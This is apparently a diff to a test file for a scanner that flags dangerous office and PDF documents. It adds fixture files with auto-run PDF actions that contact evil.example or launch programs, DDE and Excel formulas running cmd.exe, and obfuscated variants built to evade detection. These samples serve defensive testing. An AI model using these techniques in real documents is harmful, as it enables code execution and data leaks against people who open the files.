@@ -55,6 +55,20 @@ def instructions(*pieces):
     return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
 
 
+def sheet(formula, element="f"):
+    content = f'<worksheet xmlns="{SHEET}"><{element}>{formula}</{element}></worksheet>'
+    return excel(("xl/worksheets/sheet1.xml", content))
+
+
+def opening(action, *objects):
+    """A PDF that does this when it is opened."""
+    return pdf(
+        b"1 0 obj <</Type /Catalog /OpenAction %s>> endobj\n" % action + b"\n".join(objects)
+    )
+
+
+LINK = b"<</S /URI /URI (https://evil.example)>>"
+CODES = "QUOTE 68 68 69 65 85 84 79"
 DDE = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
 SCRIPT = b"1 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj"
 UTF16 = f'<?xml version="1.0" encoding="utf-16"?>{body(instructions("DDE ", DDE))}'
@@ -190,6 +204,73 @@ HARMFUL = {
         "a.pdf",
         pdf(b"1 0 obj <</Type /Filespec /EF <</F 2 0 R>>>> endobj"),
     ),
+    **{
+        f"by itself: {name}": (Harm.OPENING, "a.pdf", content)
+        for name, content in {
+            "form": opening(b"<</S/SubmitForm /F(https://evil.example)>>"),
+            "import": opening(b"<</S/ImportData /F(a.fdf)>>"),
+            "file of a share": opening(rb"<</S/GoToE /F(\\\\evil\\x)>>"),
+            "place in a file of a share": opening(rb"<</S /GoToR /F(\\\\evil\\x) /D [0]>>"),
+            "program": opening(b"<</S /Launch /F (a.exe)>>"),
+            "address": opening(LINK),
+            "address in other letters": opening(LINK.replace(b"/URI", b"/#55R#49")),
+            "event of a page": pdf(b"3 0 obj <</Type /Page /AA<</O" + LINK + b">>>> endobj"),
+            "sound": opening(b"<</S /Sound /Sound 9 0 R>>"),
+            "film": opening(b"<</S /Rendition /OP 0>>"),
+            "named": opening(b"7 0 R", b"7 0 obj " + LINK + b" endobj"),
+            "named far off": opening(
+                b"7" + b" " * 200 + b"0 R", b"7 0 obj " + LINK + b" endobj"
+            ),
+            "named event": pdf(
+                b"3 0 obj <</AA 4 0 R>> endobj 4 0 obj <</O 5 0 R>> endobj 5 0 obj "
+                + LINK
+                + b" endobj"
+            ),
+            "packed": pdf(packed_objects(b"<</OpenAction" + LINK + b">>")),
+            "named packed": opening(
+                b"1 0 R", packed_objects(LINK, head=b"/Type /ObjStm /N 1 /First 4")
+            ),
+            "after another": opening(
+                b"<</S /GoTo /D [2 0 R /Fit] /Next [7 0 R]>>", b"7 0 obj " + LINK + b" endobj"
+            ),
+            "after others": opening(
+                b"<</S /GoTo /Next 6 0 R>>",
+                b"6 0 obj [8 0 R 7 0 R] endobj",
+                b"7 0 obj " + LINK + b" endobj",
+            ),
+            "kind that is named": opening(b"<</S 7 0 R>>", b"7 0 obj /URI endobj"),
+            "after many blanks": opening(b" " * 5000 + LINK),
+            "after zeros": opening(b"\0\0" + LINK),
+            "after a comment": opening(b"%\n" + LINK),
+            "after a false end": opening(b"<</T (>>>> endobj) /S /URI>>"),
+            "after a strange name": opening(b"<</X\\<<>> /S /URI>>"),
+            "after much": opening(b"<</T (" + b"x" * 5000 + b") /S /URI>>"),
+        }.items()
+    },
+    **{
+        f"formula {formula}": (Harm.DDE, "a.xlsx", sheet(formula, element))
+        for formula, element in {
+            "RTD(&quot;a.b&quot;,,1)": "f",
+            "1+call (&quot;Kernel32&quot;,1)": "f",
+            "C&#65;LL(1)": "f",
+            "CA<![CDATA[LL]]>(1)": "f",
+            "REGISTER.ID(&quot;a&quot;)": "definedName",
+            "cmd|'/C calc'!A0": "formula1",
+            "cmd|calc!A0": "f",
+            "'c md'|'/C calc'!A0": "f",
+        }.items()
+    },
+    "letters by their numbers": (Harm.DDE, "a.docx", word(inner=instructions(CODES, " cmd"))),
+    "letters by numbers in pieces": (
+        Harm.DDE,
+        "a.docx",
+        word(inner=instructions("QUOTE 6", "8 0x44", " ", "QUOTE &quot;69&quot;")),
+    ),
+    "last letter by its number": (
+        Harm.DDE,
+        "a.docx",
+        word(inner=instructions("DD", "QUOTE 69")),
+    ),
     "lock": (Harm.PROTECTED, "a.pdf", pdf(trailer=b"/Encrypt 5 0 R")),
 }
 WARNED_ABOUT = {
@@ -212,6 +293,27 @@ WARNED_ABOUT = {
         Harm.LINKS,
         "a.docx",
         word(inner=instructions('INCLUDEPICTURE "https://evil.example/a.png"')),
+    ),
+    "field that fetches from a share": (
+        Harm.LINKS,
+        "a.docx",
+        word(inner=instructions(r'INCLUDETEXT "\\\\evil\\a.docx"')),
+    ),
+    "formula that asks the network": (
+        Harm.LINKS,
+        "a.xlsx",
+        sheet("_xlfn.FILTERXML(_xlfn.WEBSERVICE(&quot;https://evil.example&quot;),1)"),
+    ),
+    "picture by a formula": (Harm.LINKS, "a.xlsx", sheet("_xlfn.IMAGE(A1)")),
+    "link to a place in another file": (
+        Harm.LINKS,
+        "a.pdf",
+        pdf(b"5 0 obj <</Subtype /Link /A <</S /GoToR /F (b.pdf) /D [0]>>>> endobj"),
+    ),
+    "connections of which there are none": (
+        Harm.CONNECTIONS,
+        "a.xlsx",
+        excel(("xl/connections.xml", "")),
     ),
     "cells of another workbook": (
         Harm.LINKS,
@@ -308,6 +410,23 @@ ORDINARY = {
         % PAGES
         + b"\n5 0 obj <</A <</S /URI /URI (https://bentre.gov.vn)>>>> endobj"
     ),
+    "jump and links.pdf": opening(
+        b"5 0 R",
+        b"5 0 obj <</S /GoTo /D [3 0 R /Fit]>> endobj",
+        b"3 0 obj <</Type /Page /Annots [<</Subtype /Link /A 6 0 R>>]>> endobj",
+        b"6 0 obj " + LINK + b" endobj",
+    ),
+    "jump beside links.pdf": opening(
+        b"<</S /GoTo /D (a)>> /Lang (vi)", b"6 0 obj <</A" + LINK + b">> endobj"
+    ),
+    "jump packed with links.pdf": opening(
+        b"1 0 R",
+        b"9 0 obj <</Type /ObjStm /N 2 /First 9 /Filter /FlateDecode>>\nstream\n"
+        + zlib.compress(b"1 0 2 20 <</S /GoTo /D (a)>><</A" + LINK + b">>")
+        + b"\nendstream endobj",
+    ),
+    "texts.xlsx": sheet("&quot;a|b! CALL(1)&quot;&amp;HYPERLINK(A1)&amp;RECALL(1)"),
+    "quote.docx": word(inner=instructions("QUOTE 72 73", " PAGE ")),
     "b.pdf": pdf(packed_objects(b"<</Type /Page>>")),
 }
 
